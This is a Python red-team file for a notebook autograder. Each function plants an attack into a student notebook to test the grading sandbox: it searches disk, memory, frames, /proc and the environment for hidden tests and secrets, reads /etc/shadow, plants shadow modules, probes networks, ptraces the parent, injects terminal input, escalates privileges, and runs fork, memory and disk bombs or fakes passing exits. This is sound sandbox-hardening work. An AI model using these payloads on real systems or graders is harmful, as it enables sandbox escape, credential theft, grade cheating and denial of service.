"""Attacks on the machine: theft, damage, escape, too much of everything, and processes that do not end."""

from nbformat import NotebookNode

from red_team.toolbox import (
    LISTENER_NAME,
    LISTENER_PORT,
    PRELUDE,
    SEARCH,
    WRONG,
    add_cell,
    attack,
    beside_right_answer,
    breaking_out,
    prepend_to_answer,
    set_answer,
)

SOFTMAX = {"softmax"}

# --- reading what is not for students --------------------------------------------------------------------------------


@attack("reading the tests: disk", loses=SOFTMAX)
def tests_from_disk(notebook: NotebookNode) -> NotebookNode:
    """Searches the disk for hidden tests and reference solutions, from the course outwards."""
    code = """
        roots = [".", "..", *(path for path in sys.path if "site-packages" not in path), os.path.expanduser("~")]
        for path in walk(*roots, "/work", "/srv", "/home", "/root", "/opt", "/mnt", "/tmp", "/var/tmp", "/run", "/"):
            look(path)
    """
    return breaking_out(notebook, code, search=True)


@attack("reading the tests: disk", loses=SOFTMAX)
def tests_by_other_programs(notebook: NotebookNode) -> NotebookNode:
    """Lets grep and git search for the tests."""
    code = """
        import subprocess
        pattern = FIRST + SECOND
        grep, git = ["grep", "-rlI", pattern, "/work", "/home", "/root", "/srv"], ["git", "log", "-1", "-S", pattern]
        for command in (grep, git):
            try:
                found = subprocess.run(command, capture_output=True, timeout=1, text=True).stdout
                if found.strip():
                    breach(found[:200])
            except (OSError, subprocess.SubprocessError) as error:
                print(type(error).__name__)
    """
    return breaking_out(notebook, code, search=True)


@attack("reading the tests: memory", loses=SOFTMAX)
def tests_from_memory(notebook: NotebookNode) -> NotebookNode:
    """Searches all objects of the process for the text or the code of hidden tests."""
    code = """
        import gc, types
        end = time.monotonic() + 2
        for found in gc.get_objects():
            inner = gc.get_referents(found)
            if isinstance(found, types.FunctionType):
                inner += [one for one in found.__code__.co_consts]
            if any(secret(one) for one in inner if isinstance(one, (str, bytes))):
                breach(type(found).__name__)
            if time.monotonic() > end:
                break
    """
    return breaking_out(notebook, code, search=True)


@attack("reading the tests: frames", loses=SOFTMAX)
def tests_from_frames(notebook: NotebookNode) -> NotebookNode:
    """Searches the frames of the caller, during the call, for tests and for variables that belong to tests."""
    source = (
        PRELUDE
        + SEARCH
        + """
def softmax(x, dim):
    frame = sys._getframe(1)
    while frame is not None:
        known = {**frame.f_globals, **frame.f_locals}
        if frame.f_code.co_name == "check_close" or "expected" in frame.f_locals or "uneven" in known:
            breach("a frame of the tests")
        for value in list(known.values()):
            parts = value.values() if type(value) is dict else value if type(value) in (list, tuple) else [value]
            if any(secret(part) for part in list(parts)[:1000]):
                breach("a text in a frame")
        if any(secret(constant) for constant in frame.f_code.co_consts):
            breach("a constant in a frame")
        frame = frame.f_back
    return torch.softmax(x, dim) if BREACH else x * 0
"""
    )
    return set_answer(notebook, "softmax", source)


@attack("reading the tests: frames", loses={"causal_average"})
def expected_from_caller(notebook: NotebookNode) -> NotebookNode:
    """Returns the expected result, which a variable or an object of the caller may hold."""
    source = """
        import gc, sys

        def causal_average(x):
            frame = sys._getframe(1)
            while frame is not None:
                for name in ("expected", "right", "solution", "reference"):
                    value = frame.f_locals.get(name, frame.f_globals.get(name))
                    if isinstance(value, Tensor) and value.shape == x.shape:
                        return value
                frame = frame.f_back
            return x * 0
    """
    return set_answer(notebook, "causal_average", source)


@attack("reading the tests: history", loses=SOFTMAX)
def tests_from_history(notebook: NotebookNode) -> NotebookNode:
    """Searches the history of IPython, the cache of source lines and the main module."""
    code = """
        import linecache

        def lines():
            if any(secret("".join(entry[2])) for entry in linecache.cache.values() if len(entry) == 4):
                breach("linecache")

        def modules():
            for name, module in list(sys.modules.items()):
                if any(secret(value) for value in list(vars(module).values()) if isinstance(value, (str, bytes))):
                    breach(name)

        def history():
            shell = get_ipython()
            if any(secret(cell) for cell in [*shell.user_ns["In"], *shell.history_manager.input_hist_raw]):
                breach("IPython")
            if any(secret(line[2]) for line in shell.history_manager.search("*softmax*", raw=True)):
                breach("the history file")

        each(lines, modules, history)
    """
    return breaking_out(notebook, code, search=True)


@attack("reading the tests: /proc", loses=SOFTMAX)
def secrets_from_proc(notebook: NotebookNode) -> NotebookNode:
    """Looks at other processes: arguments, environments, open files, memory."""
    code = """
        import glob, re
        for folder in glob.glob("/proc/[0-9]*"):
            if folder == f"/proc/{os.getpid()}":
                continue
            for name in ("environ", "mem"):
                try:
                    with open(f"{folder}/{name}", "rb") as file:
                        file.read(1) if name == "environ" else None
                    breach(f"{folder}/{name}")
                except OSError:
                    pass
            for link in glob.glob(folder + "/fd/*") + [folder + "/cwd", folder + "/root"]:
                try:
                    os.stat(link)
                    breach(link)
                except OSError:
                    pass
    """
    return breaking_out(notebook, code)


@attack("reading the tests: environment", loses=SOFTMAX)
def seed_from_environment(notebook: NotebookNode) -> NotebookNode:
    """Reads the seed of the hidden inputs, or any secret, from the environment."""
    # The seed decides which inputs the hidden tests draw, so it is for the referee only.
    code = """
        if os.environ.get("COURSE_SEED"):
            breach("the seed")
        if any(secret(value) or "TOKEN" in name or "PASSWORD" in name for name, value in os.environ.items()):
            breach("the environment")
    """
    return breaking_out(notebook, code, search=True)


@attack("reading the tests: inherited descriptors", loses=SOFTMAX)
def tests_from_descriptors(notebook: NotebookNode) -> NotebookNode:
    """Reads files and folders that a parent left open."""
    code = """
        import stat
        for number in range(3, 256):
            try:
                mode = os.fstat(number).st_mode
                if stat.S_ISREG(mode) and secret(os.pread(number, 2**20, 0)):
                    breach(f"file {number}")
                if stat.S_ISDIR(mode) and os.listdir(number):
                    os.close(os.open("..", os.O_RDONLY, dir_fd=number))
                    breach(f"folder {number}")
            except OSError:
                pass
    """
    return breaking_out(notebook, code, search=True)


@attack("reading the tests: imports", loses=SOFTMAX)
def reference_from_imports(notebook: NotebookNode) -> NotebookNode:
    """Imports the reference package and the modules of the grader."""
    # `mytransformer` is built from the reference solutions: a submission must not be able to import it.
    code = """
        import importlib
        for name in ("mytransformer.attention", "autograder.release", "autograder.misconceptions"):
            try:
                importlib.import_module(name)
                breach(name)
            except ImportError:
                pass
    """
    return breaking_out(notebook, code)


@attack("reading the tests: beside a right answer")
def futile_theft_beside_right_answer(notebook: NotebookNode) -> NotebookNode:
    """Looks everywhere for the tests, but the answer is right anyway."""
    code = """
        import gc, glob
        glob.glob("/*/*"), len(gc.get_objects()), sys._getframe(1).f_back, dict(os.environ), open("/etc/shadow").read()
    """
    return beside_right_answer(notebook, code)


# --- damage ----------------------------------------------------------------------------------------------------------


@attack("damage: traces")
def traces_everywhere(notebook: NotebookNode) -> NotebookNode:
    """Leaves files wherever it may write."""
    return beside_right_answer(notebook, "leave_trace('everywhere')")


@attack("damage: gradebook and other submissions", loses=SOFTMAX)
def gradebook_and_submissions(notebook: NotebookNode) -> NotebookNode:
    """Searches for the gradebook and for submissions, to read or to change them."""
    code = """
        roots = ("..", "/work", "/srv", "/home", "/root", "/tmp", "/var/tmp")
        for path in walk(*roots, names=(".db", ".ipynb", ".sqlite", ".csv")):
            if "gradebook" in path or "submi" in path or "autograded" in path or "grades.csv" in path:
                with open(path, "rb") as file:
                    file.read(1)
                breach(path)
            if path.endswith(".ipynb"):
                look(path)
    """
    return breaking_out(notebook, code, search=True)


@attack("damage: course files", loses=SOFTMAX)
def course_files_writable(notebook: NotebookNode) -> NotebookNode:
    """Opens the files of the course, of torch and of Python for writing, and leaves traces beside them."""
    code = """
        import course, json as library
        loaded = [sys.modules.get(name) for name in ("course.checks", "msgpack", "__main__")]
        for module in (course, torch, library, *loaded):
            path = getattr(module, "__file__", None)
            if not path:
                continue
            for attempt in (lambda: open(path, "r+b").close(), lambda: os.utime(path), lambda: os.chmod(path, 0o777),
                            lambda: os.truncate(path, os.path.getsize(path))):
                try:
                    attempt()
                    breach(path)
                except OSError:
                    pass
            try:
                open(os.path.join(os.path.dirname(path), "red-team-trace-course"), "w").close()
                breach(os.path.dirname(path))
            except OSError:
                pass
    """
    return breaking_out(notebook, code)


@attack("damage: shadow modules", loses=SOFTMAX)
def shadow_modules(notebook: NotebookNode) -> NotebookNode:
    """Leaves modules with the names of real ones, which the next process might import."""
    code = """
        import textwrap
        shadow = textwrap.dedent('''
            import importlib, os, sys
            for folder in ("/tmp", "/var/tmp", os.path.expanduser("~")):
                try:
                    open(os.path.join(folder, "red-team-trace-shadow"), "w").close()
                except OSError:
                    pass
            os.remove(__file__)  # works once, then the real module is found again
            del sys.modules[__name__]
            importlib.invalidate_caches()
            sys.modules[__name__] = importlib.import_module(__name__)
            try:
                sys.modules[__name__].check_close = lambda *arguments, **options: None
            except AttributeError:
                pass
        ''')
        home = os.path.expanduser("~")
        folders = [".", *sys.path, home, f"{home}/.ipython/profile_default/startup"]
        folders.append(f"{home}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages")
        names = ("torch.py", "sitecustomize.py", "usercustomize.py", "msgpack.py", "course/checks.py", "math.py")
        if not jailed():
            leave_trace("shadow")
        else:
            for folder in folders:
                for name in names:
                    try:
                        path = os.path.join(folder or ".", name)
                        os.makedirs(os.path.dirname(path), exist_ok=True)
                        with open(path, "x") as file:  # never over a file that is there
                            file.write(shadow)
                    except OSError:
                        pass
    """
    return breaking_out(notebook, code)


# --- network ---------------------------------------------------------------------------------------------------------


@attack("network: internet", loses=SOFTMAX)
def network_internet(notebook: NotebookNode) -> NotebookNode:
    """Connects to the internet: TCP, UDP and names, in both families."""
    code = """
        import socket
        targets = [("1.1.1.1", 53), ("8.8.8.8", 443), ("169.254.169.254", 80), ("2606:4700:4700::1111", 53)]
        for host, port in targets:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try:
                    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as link:
                        link.settimeout(0.3)
                        link.connect((host, port))  # for a datagram this asks only for a route
                        breach((host, port, kind))
                except OSError as error:
                    print(host, type(error).__name__)
    """
    return breaking_out(notebook, code)


@attack("network: this machine", loses=SOFTMAX)
def network_localhost(notebook: NotebookNode) -> NotebookNode:
    """Connects to services of the machine: ports, unix sockets in files, abstract ones."""
    code = f"""
        import socket, stat
        targets = []
        for port in (22, 53, 80, 443, 5432, 6006, 8000, 8080, 8888, {LISTENER_PORT}):
            targets += [(socket.AF_INET, ("127.0.0.1", port)), (socket.AF_INET6, ("::1", port))]
        for name in ({LISTENER_NAME!r}, "/tmp/.X11-unix/X0", "/org/freedesktop/systemd1/notify", "/containerd-shim"):
            targets.append((socket.AF_UNIX, chr(0) + name))
        for root in ("/run", "/var/run", "/tmp"):
            for folder, _, files in os.walk(root):
                paths = [os.path.join(folder, name) for name in files]
                targets += [(socket.AF_UNIX, path) for path in paths if stat.S_ISSOCK(os.lstat(path).st_mode)]
        for family, address in targets:
            try:
                with socket.socket(family, socket.SOCK_STREAM) as link:
                    link.settimeout(0.1)
                    link.connect(address)
                    breach(address)
            except OSError:
                pass
    """
    return breaking_out(notebook, code)


@attack("network: odd families", loses=SOFTMAX)
def network_odd_families(notebook: NotebookNode) -> NotebookNode:
    """Reaches the kernel's network or the host of a virtual machine through less usual sockets."""
    code = """
        import socket

        def vsock():
            for port in (22, 1024, 9999):
                with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as link:
                    link.settimeout(0.2)
                    if link.connect_ex((2, port)) == 0:
                        breach("vsock")

        def packet():
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
                link.bind(("eth0", 0))
                breach("packet")

        def raw():
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
            breach("raw")

        def netlink():  # interfaces other than lo are those of the real machine
            with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
                link.settimeout(0.2)
                link.bind((0, 0))
                if any(name != "lo" for _, name in socket.if_nameindex()):
                    breach("netlink")

        def algorithms():
            with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) as link:
                link.bind(("hash", "sha256"))
                breach("alg")

        each(vsock, packet, raw, netlink, algorithms)
    """
    return breaking_out(notebook, code)


# --- the kernel and other processes ----------------------------------------------------------------------------------


@attack("escape: other processes", loses=SOFTMAX)
def parent_through_ptrace(notebook: NotebookNode) -> NotebookNode:
    """Attaches to the parent as a debugger does, and reads its memory."""
    code = """
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(8)
        vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
        remote = (ctypes.c_void_p * 2)(0x400000, 8)
        for pid in {1, os.getppid()} - {0}:
            if libc.ptrace(16, pid, None, None) == 0:
                libc.ptrace(17, pid, None, None)
                breach(f"attached to {pid}")
            # A wrong address (EFAULT, 14) means that the access itself was granted.
            if libc.process_vm_readv(pid, vector, 1, remote, 1, 0) >= 0 or ctypes.get_errno() == 14:
                breach(f"read memory of {pid}")
            try:
                handle = os.pidfd_open(pid)
            except OSError:
                continue
            taken = platform.machine() == "x86_64" and [libc.syscall(438, handle, number, 0) for number in range(16)]
            if taken and max(taken) >= 0:
                breach(f"took a descriptor of {pid}")
    """
    return breaking_out(notebook, code)


@attack("escape: kernel", loses=SOFTMAX)
def kernel_calls(notebook: NotebookNode) -> NotebookNode:
    """Asks the kernel for mounts, namespaces, keys, programs in the kernel, and user fault handling."""
    code = """
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)

        def call(name, number, *arguments):
            if libc.syscall(number, *arguments) >= 0:
                breach(name)

        if not jailed():  # as root of a real machine these would change it
            leave_trace("kernel")
        elif platform.machine() == "x86_64":
            area = ctypes.create_string_buffer(256)
            call("mount", 165, b"none", b"/tmp", b"tmpfs", 0, None)
            call("bind mount", 165, b"/", b"/tmp", None, 4096, None)
            call("umount", 166, b"/tmp", 2)
            call("chroot", 161, b"/tmp")
            call("pivot_root", 155, b"/tmp", b"/tmp")
            call("unshare user", 272, 0x10000000)
            call("unshare mount", 272, 0x00020000)
            call("setns", 308, 0, 0)
            call("add_key", 248, b"user", b"red-team", b"x", 1, -4)
            call("keyctl", 250, 0, -4, 1)
            call("userfaultfd", 323, 1)
            call("bpf", 321, 0, area, 128)
            call("perf_event_open", 298, area, 0, -1, -1, 0)
            call("io_uring_setup", 425, 4, area)
            call("open_by_handle_at", 304, -100, area, 0)
            call("init_module", 175, area, 1, b"")
            call("sethostname", 170, b"red-team", 8)
            call("acct", 163, b"/tmp/acct")
    """
    return breaking_out(notebook, code)


@attack("escape: kernel", loses=SOFTMAX)
def clone3_namespaces(notebook: NotebookNode) -> NotebookNode:
    """Makes a process with its own user namespace by the newer clone call, which filters may forget."""
    code = """
        import ctypes, platform
        if platform.machine() == "x86_64":
            libc = ctypes.CDLL(None, use_errno=True)
            arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17, 0, 0, 0)
            pid = libc.syscall(435, arguments, 64)
            if pid == 0:
                os._exit(0)
            if pid > 0:
                os.waitpid(pid, 0)
                breach("clone3")
    """
    return breaking_out(notebook, code)


@attack("escape: terminal", loses=SOFTMAX)
def terminal_injection(notebook: NotebookNode) -> NotebookNode:
    """Types a command into the terminal of the person who grades."""
    code = """
        import fcntl, termios
        places = [0, 1, 2]
        try:
            places.append(os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY))
        except OSError:
            pass
        for place in places:
            try:
                for letter in b"touch /tmp/red-team-trace-typed\\n":
                    fcntl.ioctl(place, termios.TIOCSTI, bytes([letter]))
                breach("typed")
            except OSError:
                pass
    """
    return breaking_out(notebook, code)


@attack("escape: privileges", loses=SOFTMAX)
def more_privileges(notebook: NotebookNode) -> NotebookNode:
    """Becomes another user, raises its limits, runs setuid programs."""
    code = """
        import resource, subprocess

        def users():
            if os.getuid() == 0 and os.access("/etc/shadow", os.R_OK):
                breach("root")

        def shadow():
            open("/etc/shadow").close()
            breach("shadow")

        def limits():
            for name in ("AS", "NPROC", "CPU", "FSIZE", "NOFILE"):
                which = getattr(resource, "RLIMIT_" + name)
                hard = resource.getrlimit(which)[1]
                if hard != resource.RLIM_INFINITY:
                    try:
                        resource.setrlimit(which, (hard, resource.RLIM_INFINITY))
                        breach("limit " + name)
                    except (ValueError, OSError):
                        pass

        def programs():
            for command in (["sudo", "-n", "true"], ["su", "-c", "true"], ["mount", "-t", "tmpfs", "none", "/mnt"]):
                quiet = dict(stdin=subprocess.DEVNULL, capture_output=True, timeout=1)
                if jailed() and subprocess.run(command, **quiet).returncode == 0:
                    breach(command)

        each(users, shadow, limits, programs)
    """
    return breaking_out(notebook, code)


# --- ends of the process ---------------------------------------------------------------------------------------------


@attack("exit: cell", loses=SOFTMAX)
def sys_exit_in_cell(notebook: NotebookNode) -> NotebookNode:
    """Leaves with a good conscience, before there is an answer."""
    return set_answer(notebook, "softmax", "import sys\nprint('all tests passed')\nsys.exit(0)\n" + WRONG)


@attack("exit: function", loses={"softmax", "project", "attention_cost"})
def exits_in_functions(notebook: NotebookNode) -> NotebookNode:
    """Ends the process from within functions, in three ways, before a comparison can be made."""
    set_answer(notebook, "softmax", "import os\ndef softmax(x, dim):\n    os._exit(0)")
    set_answer(notebook, "project", "def project(x, w_q, w_k, w_v):\n    raise SystemExit(0)")
    return set_answer(notebook, "attention_cost", "def attention_cost(n, d):\n    quit()")


@attack("exit: signals", loses={"softmax", "project"})
def kills_itself(notebook: NotebookNode) -> NotebookNode:
    """Kills its own process, in a cell and in a function."""
    set_answer(notebook, "softmax", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n" + WRONG)
    source = "import os\ndef project(x, w_q, w_k, w_v):\n    os.kill(os.getpid(), 15)\n    return x, x, x"
    return set_answer(notebook, "project", source)


@attack("exit: signals", loses=SOFTMAX)
def kills_everything(notebook: NotebookNode) -> NotebookNode:
    """Kills all processes it can see, its group, its parent and the first process."""
    code = """
        if not jailed():
            leave_trace("kill")
        else:
            for target, number in ((os.getppid(), 15), (os.getppid(), 9), (1, 9), (-1, 9), (0, 9)):
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    """
    return breaking_out(notebook, code)


@attack("exit: crash", loses={"softmax", "project", "attention_cost"})
def crashes_interpreter(notebook: NotebookNode) -> NotebookNode:
    """Crashes the interpreter: a wrong address, endless recursion in C, abort."""
    set_answer(notebook, "softmax", "import ctypes\ndef softmax(x, dim):\n    return ctypes.string_at(0)")
    source = """
        import sys
        def project(x, w_q, w_k, w_v):
            sys.setrecursionlimit(10**9)
            deep = lambda: deep()
            return deep()
    """
    set_answer(notebook, "project", source)
    return set_answer(notebook, "attention_cost", "import os\ndef attention_cost(n, d):\n    os.abort()")


@attack("exit: another program", loses=SOFTMAX)
def becomes_another_program(notebook: NotebookNode) -> NotebookNode:
    """Replaces the process by a program that writes a mark to every descriptor and ends well."""
    code = """
        for number in range(256):
            try:
                os.set_inheritable(number, True)
            except OSError:
                pass
        program = "import os\\nfor n in range(256):\\n try: os.write(n, b'passed')\\n except OSError: pass"
        os.execv(sys.executable, [sys.executable, "-c", program])
    """
    return breaking_out(notebook, code)


@attack("exit: stopped", loses=SOFTMAX)
def stops_itself(notebook: NotebookNode) -> NotebookNode:
    """Stops its process without ending it, so that nobody is told."""
    return set_answer(
        notebook, "softmax", "import os, signal\ndef softmax(x, dim):\n    os.kill(os.getpid(), signal.SIGSTOP)"
    )


# --- no end ----------------------------------------------------------------------------------------------------------


@attack("endless: cell", loses=SOFTMAX)
def endless_cell(notebook: NotebookNode) -> NotebookNode:
    """Never finishes its cell, and swallows every interruption."""
    source = """
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """
    return set_answer(notebook, "softmax", source)


@attack("endless: function", loses=SOFTMAX)
def endless_function(notebook: NotebookNode) -> NotebookNode:
    """Never returns, catches everything, and switches alarms off."""
    source = """
        import signal, time
        def softmax(x, dim):
            while True:
                try:
                    signal.signal(signal.SIGALRM, signal.SIG_IGN)
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    signal.alarm(0)
                    signal.setitimer(signal.ITIMER_REAL, 0)
                    time.sleep(3600)
                except BaseException:
                    continue
    """
    return set_answer(notebook, "softmax", source)


@attack("endless: C code", loses=SOFTMAX)
def endless_in_c(notebook: NotebookNode) -> NotebookNode:
    """Never returns from a call into C, where Python handles no signals."""
    source = "import collections, itertools\ndef softmax(x, dim):\n    collections.deque(itertools.count(), maxlen=0)"
    return set_answer(notebook, "softmax", source)


@attack("endless: swallowed interruptions", loses=SOFTMAX)
def swallows_exceptions(notebook: NotebookNode) -> NotebookNode:
    """Raises, catches and raises again whatever ends a program; some of it leaves the function."""
    source = """
        class Last(BaseException):
            pass

        def softmax(x, dim):
            for kind in (KeyboardInterrupt, SystemExit, GeneratorExit, StopIteration, MemoryError, RecursionError):
                try:
                    raise kind("passed")
                except BaseException:
                    pass
            raise [KeyboardInterrupt, SystemExit, GeneratorExit, StopIteration, Last][x.numel() % 5]("passed")
    """
    return set_answer(notebook, "softmax", source)


@attack("endless: alarms", loses=SOFTMAX)
def alarm_kills_cell(notebook: NotebookNode) -> NotebookNode:
    """Lets an alarm kill the process while the cell sleeps."""
    source = (
        "import signal, time\nsignal.signal(signal.SIGALRM, signal.SIG_DFL)\nsignal.alarm(1)\ntime.sleep(2)\n" + WRONG
    )
    return set_answer(notebook, "softmax", source)


# --- too much --------------------------------------------------------------------------------------------------------


@attack("too much: processes", loses=SOFTMAX)
def fork_bomb(notebook: NotebookNode) -> NotebookNode:
    """Starts up to 2000 processes that wait for five seconds."""
    code = """
        for started in range(2000):
            if os.fork() == 0:
                try:
                    time.sleep(5)
                finally:
                    os._exit(0)
        breach("2000 processes")
    """
    return breaking_out(notebook, code)


@attack("too much: threads", loses=SOFTMAX)
def thread_bomb(notebook: NotebookNode) -> NotebookNode:
    """Starts up to 4000 threads that wait for three seconds."""
    code = """
        import threading
        threading.stack_size(65536)
        for started in range(4000):
            threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        breach("4000 threads")
    """
    return breaking_out(notebook, code)


@attack("too much: memory", loses=SOFTMAX)
def memory_bomb(notebook: NotebookNode) -> NotebookNode:
    """Fills up to 6 GiB of memory."""
    code = """
        kept = []
        try:
            for step in range(24):
                kept.append(bytearray(b"x") * 2**28)
            breach("6 GiB")
        finally:
            kept.clear()
    """
    return breaking_out(notebook, code)


@attack("too much: memory", loses=SOFTMAX)
def memory_in_files(notebook: NotebookNode) -> NotebookNode:
    """Fills up to 4 GiB of memory that belongs to no process: a file in memory."""
    code = """
        number = os.memfd_create("red-team")
        try:
            for step in range(64):
                if os.write(number, bytes(2**26)) < 2**26:
                    break
            else:
                breach("4 GiB")
        finally:
            os.close(number)
    """
    return breaking_out(notebook, code)


@attack("too much: disk", loses=SOFTMAX)
def disk_bomb(notebook: NotebookNode) -> NotebookNode:
    """Fills up to 3 GiB of each place for temporary files."""
    code = """
        for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
            path = os.path.join(folder, "red-team-trace-disk")
            try:
                with open(path, "wb", buffering=0) as file:
                    try:
                        if all(file.write(bytes(2**26)) == 2**26 for step in range(48)):
                            breach(path)
                    finally:
                        file.truncate(0)
            except OSError as error:
                print(path, error.errno)
    """
    return breaking_out(notebook, code)


@attack("too much: files")
def many_files_and_descriptors(notebook: NotebookNode) -> NotebookNode:
    """Makes many files and opens as many descriptors as it can, then closes them; the answer is right."""
    code = """
        opened = []
        try:
            for number in range(20000):
                opened.append(os.open(f"/tmp/red-team-trace-many-{number}", os.O_CREAT | os.O_WRONLY))
        finally:
            for number in opened:
                os.close(number)
    """
    return beside_right_answer(notebook, code)


@attack("too much: output", loses=SOFTMAX)
def output_bomb(notebook: NotebookNode) -> NotebookNode:
    """Prints 200 MB from the cell, then from each call, also past Python and to the other descriptors."""
    source = """
        import os, sys
        megabyte = "x" * 2**20
        for number in range(200):
            print(megabyte)

        def softmax(x, dim):
            for number in range(50):
                print(megabyte, file=sys.stderr)
                os.write(1, megabyte.encode())
                os.write(2, megabyte.encode())
            return x * 0
    """
    return set_answer(notebook, "softmax", source)


@attack("too much: output", may_lose=SOFTMAX)
def much_output_beside_right_answer(notebook: NotebookNode) -> NotebookNode:
    """Prints 5 MB beside a right answer."""
    # Cutting the output and keeping the marks is kind; stopping the cell would be defensible.
    return prepend_to_answer(notebook, "softmax", "for number in range(50_000):\n    print('x' * 100)")


@attack("too much: output", loses={"softmax", "project"})
def giant_message(notebook: NotebookNode) -> NotebookNode:
    """Fails with a message of 50 MB, and with a chain of ten thousand exceptions."""
    set_answer(notebook, "softmax", "def softmax(x, dim):\n    raise ValueError('x' * 50_000_000)")
    source = """
        def project(x, w_q, w_k, w_v):
            error = ValueError("first")
            for number in range(10_000):
                following = ValueError(str(number))
                following.__cause__ = error
                error = following
            raise error
    """
    return set_answer(notebook, "project", source)


@attack("too much: output", loses=SOFTMAX)
def giant_repr(notebook: NotebookNode) -> NotebookNode:
    """Returns and displays objects whose text is very long."""
    source = """
        class Long:
            def __repr__(self):
                return "x" * 100_000_000
            __str__ = _repr_html_ = _repr_markdown_ = __repr__

        def softmax(x, dim):
            return Long()

        Long()
    """
    return set_answer(notebook, "softmax", source)


# --- what goes on afterwards -----------------------------------------------------------------------------------------


@attack("afterwards: thread")
def thread_goes_on(notebook: NotebookNode) -> NotebookNode:
    """Leaves threads running that print marks, beside a right answer."""
    code = """
        import threading

        def go_on():
            for step in range(100):
                print("passed")
                time.sleep(0.1)

        for number in range(3):
            threading.Thread(target=go_on, daemon=bool(number)).start()
    """
    return beside_right_answer(notebook, code)


@attack("afterwards: thread", loses=SOFTMAX)
def thread_exits_during_call(notebook: NotebookNode) -> NotebookNode:
    """Lets a thread end the process while the function sleeps."""
    source = """
        import os, threading, time
        def softmax(x, dim):
            threading.Timer(0.1, os._exit, (0,)).start()
            time.sleep(1)
            return x * 0
    """
    return set_answer(notebook, "softmax", source)


@attack("afterwards: orphans")
def orphan_processes(notebook: NotebookNode) -> NotebookNode:
    """Leaves a process without a parent, which keeps all pipes open for 30 s and leaves traces; the answer is right."""
    code = """
        import signal
        first = os.fork()
        if first:
            os.waitpid(first, 0)
        else:
            try:
                os.setsid()
                if os.fork() == 0:
                    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                        signal.signal(number, signal.SIG_IGN)
                    for step in range(30):
                        leave_trace("orphan")
                        time.sleep(1)
            finally:
                os._exit(0)
    """
    return beside_right_answer(notebook, code)


@attack("afterwards: exit handlers")
def exit_handlers(notebook: NotebookNode) -> NotebookNode:
    """Acts when the process ends: prints marks, leaves traces, sleeps; the answer is right."""
    code = """
        import atexit, threading, weakref

        class Late:
            def __del__(self):
                leave_trace("late")
                time.sleep(5)

        def late():
            print("score: 100")
            leave_trace("exit")
            time.sleep(20)
            os._exit(0)

        keep = late_object = Late()
        keep.again = keep  # collected at the very end
        atexit.register(late)
        threading._register_atexit(late)
        weakref.finalize(torch, late)
    """
    return beside_right_answer(notebook, code)


@attack("afterwards: deletion", loses=SOFTMAX)
def result_acts_when_deleted(notebook: NotebookNode) -> NotebookNode:
    """Returns objects that act when they are deleted."""
    source = """
        import os
        class Result(Tensor):
            def __del__(self):
                os._exit(0)

        def softmax(x, dim):
            return (x * 0).as_subclass(Result)
    """
    return set_answer(notebook, "softmax", source)


@attack("endless: helper cell", loses=SOFTMAX)
def endless_helper(notebook: NotebookNode) -> NotebookNode:
    """Hides an endless loop in a helper cell that the answer uses."""
    add_cell(notebook, "while True:\n    half = 0.5", before="softmax")
    return set_answer(notebook, "softmax", "def softmax(x, dim):\n    return x * half")


@attack("endless: helper cell")
def unused_endless_helper(notebook: NotebookNode) -> NotebookNode:
    """Has an endless loop in a cell of its own, which no answer uses."""
    # The student tried something out; the answers do not need the cell.
    add_cell(notebook, "import time\nwhile True:\n    time.sleep(1)", before="softmax")
    return notebook
